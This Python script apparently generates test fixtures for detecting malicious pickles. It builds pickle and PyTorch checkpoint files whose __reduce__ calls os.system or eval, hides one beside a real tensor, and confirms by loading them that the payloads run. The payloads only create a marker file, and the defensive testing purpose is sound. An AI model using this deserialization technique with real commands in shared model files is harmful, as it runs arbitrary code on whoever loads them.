"""Writes pickles whose __reduce__ would run code: os.system and builtins.eval, each as a raw pickle and inside a
torch.save zip next to a real tensor. Each payload creates the marker file named on the command line. To prove the
payloads are live, copies aimed at CONTROL_MARKER are loaded here with pickle.load and torch.load, which must create it.
usage: malicious_pickle.py OUTDIR MARKER CONTROL_MARKER"""
import builtins
import os
import pickle
import sys

import torch

out, marker, control = sys.argv[1:]


class SystemCall:
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return (os.system, (f"touch '{self.path}'",))


class EvalCall:
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return (builtins.eval, (f"open({self.path!r}, 'w').close()",))


def write(path, target):
    with open(f"{out}/{path}_system.pkl", "wb") as f:
        pickle.dump({"evil": SystemCall(target)}, f, protocol=2)
    with open(f"{out}/{path}_eval.pkl", "wb") as f:
        pickle.dump(EvalCall(target), f, protocol=2)
    torch.save({"conv.weight": torch.zeros(2, 2), "evil": SystemCall(target)}, f"{out}/{path}_system.pth")
    torch.save({"conv.weight": torch.zeros(2, 2), "evil": EvalCall(target)}, f"{out}/{path}_eval.pth")


write("evil", marker)
write("control", control)
for name in ("control_eval.pkl", "control_eval.pth"):
    if os.path.exists(control):
        os.remove(control)
    (pickle.load(open(f"{out}/{name}", "rb")) if name.endswith(".pkl") else torch.load(f"{out}/{name}"))
    assert os.path.exists(control), f"{name}: payload did not run"
for name in ("control_system.pth",):
    os.remove(control)
    torch.load(f"{out}/{name}")
    assert os.path.exists(control), f"{name}: payload did not run"
os.remove(control)
print("ok")
